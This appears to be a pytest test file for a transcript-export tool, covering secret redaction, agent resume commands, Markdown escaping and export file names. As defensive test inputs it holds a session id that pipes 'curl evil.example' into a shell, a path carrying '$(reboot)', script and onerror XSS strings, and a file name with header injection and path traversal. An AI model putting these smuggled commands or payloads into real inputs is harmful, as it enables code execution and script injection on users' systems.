"""Redaction of exported transcripts (quarry.query.web.redaction), and the transcript's other defences
against what a session holds: each kind of secret removed with a marker saying what it was, kept when
redaction is off, and nothing else touched; a resume command that stays one command whatever the id or
the path; Markdown in which a message's HTML stays text."""

from __future__ import annotations

import shlex

import pytest

from quarry.query.web.redaction import Redactor
from quarry.query.web.transcript import markdown
from quarry.query.web.transcript.files import filename
from quarry.query.web.transcript.parts import keep
from quarry.query.web.transcript.resume import resume_command
from quarry.query.web.transcript.view import Entry, Page, Part, SessionView, Single
from quarry.v1 import units_pb2

AWS_KEY = "AKIAIOSFODNN7EXAMPLE"
GITHUB_TOKEN = "ghp_" + "1234567890abcdefghijABCDEFGHIJ123456"
PRIVATE_KEY = "\n".join(
    [
        "-----BEGIN RSA PRIVATE KEY-----",
        "MIIEpAIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo",
        "4lgOEePzNm0tRgeLezV6ffAt0gunVTLw",
        "-----END RSA PRIVATE KEY-----",
    ]
)
SECRETS = [
    (f"export AWS_ACCESS_KEY_ID={AWS_KEY}", AWS_KEY, "[redacted: AWS Access Key]"),
    (f"git push https://{GITHUB_TOKEN}@github.com/o/r", GITHUB_TOKEN, "[redacted: GitHub Token]"),
    (f"the deploy key:\n{PRIVATE_KEY}\nend", "MIIEpAIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo", "[redacted: Private Key]"),
    ("cd /home/ana/src/app && ls", "/home/ana", "cd ~/src/app"),
    ("open /Users/bob/Library/x", "/Users/bob", "open ~/Library/x"),
    ('{"path": "C:\\\\Users\\\\carl\\\\repo"}', "carl", '{"path": "~\\\\repo"}'),
    ("write to ana.lopez@example.com today", "ana.lopez@example.com", "[redacted: email]"),
    ('db_password = "hunter2-correct-horse"', "hunter2-correct-horse", "[redacted: Secret Keyword]"),
]


@pytest.mark.parametrize(("text", "secret", "marker"), SECRETS, ids=[s[2] for s in SECRETS])
def test_each_secret_is_replaced_by_a_marker_saying_what_it_was(text: str, secret: str, marker: str) -> None:
    redacted = Redactor()(text)
    assert secret not in redacted and marker in redacted
    assert keep(text) == text  # with no-redact, the text as archived


def test_a_private_key_goes_whole_and_the_text_around_it_stays() -> None:
    redacted = Redactor()(f"the deploy key:\n{PRIVATE_KEY}\nend")
    assert redacted == "the deploy key:\n[redacted: Private Key]\nend"


def test_ordinary_text_is_left_alone() -> None:
    text = (
        "Running pytest -q tests/test_pool.py: 3 passed in 0.2s.\n"
        "commit 3f786850e387550fdab836ed7e6dc881de23001b, session 0199aaaa-bbbb-7ccc-8ddd-eeeeffff0001,\n"
        "see /homework/notes and db/pool.py line 42; 10.0.0.1 is the private host."
    )
    assert Redactor()(text) == text


def session(origin: str, native: str, cwd: str = "", parent: str = "") -> units_pb2.Session:
    return units_pb2.Session(
        id=f"{origin}:{native}", origin=origin, native_id=native, cwd=cwd, parent_session_id=parent
    )


def test_resume_commands_are_the_agents_own() -> None:
    assert resume_command(session("claude-code-session", "abc", "/w"), keep) == "cd /w && claude --resume abc"
    assert resume_command(session("codex-session", "0199"), keep) == "codex resume 0199"
    assert resume_command(session("gemini-cli-session", "u-1"), keep) == "gemini --resume u-1"
    assert resume_command(session("opencode-session", "ses_1"), keep) == "opencode --session ses_1"
    assert (
        resume_command(session("goose-session", "20251108_1"), keep) == "goose session --resume --session-id 20251108_1"
    )
    assert resume_command(session("chatgpt-export", "conv"), keep) == ""
    assert resume_command(session("claude-code-session", "p/agent-1", parent="claude-code-session:p"), keep) == ""


def test_a_hostile_id_or_path_stays_one_argument_of_one_command() -> None:
    hostile = session("claude-code-session", "x; curl evil.example | sh", "/tmp/$(reboot)")
    command = resume_command(hostile, keep)
    assert shlex.split(command) == ["cd", "/tmp/$(reboot)", "&&", "claude", "--resume", "x; curl evil.example | sh"]


def test_a_redacted_home_directory_still_expands() -> None:
    command = resume_command(session("codex-session", "0199", "/home/ana/my app"), Redactor())
    assert command == "cd ~/'my app' && codex resume 0199"


def test_markdown_keeps_a_messages_html_as_text_but_its_code_as_code() -> None:
    text = "<script>alert(1)</script> and `<b>` and\n```html\n<i>x</i>\n```"
    output = "```\n``` closes nothing\n"
    entry = Entry([0], "message", "user", "t", "current", 0, [Part("text", text), Part("tool_result", output)])
    header = SessionView("s", "<img src=x onerror=alert(1)>", "o", "", "", "", "", "", 0, 0, 1, "", [], [])
    written = markdown.transcript(Page(header, [Single(entry)], 0, 1, None))
    assert "&lt;script>alert(1)&lt;/script> and `<b>` and\n```html\n<i>x</i>\n```" in written
    assert "# &lt;img src=x onerror=alert(1)>" in written
    assert "````text\n```\n``` closes nothing\n\n````" in written


def test_an_export_file_name_holds_nothing_a_header_or_a_shell_reads() -> None:
    assert filename("team-a@claude-code-session:sess-3/agent-a1b2", "html") == (
        "team-a-claude-code-session-sess-3-agent-a1b2.transcript.html"
    )
    assert filename('x";\r\nSet-Cookie: a=b; ../../etc', "md") == "x-Set-Cookie-a-b-..-..-etc.transcript.md"
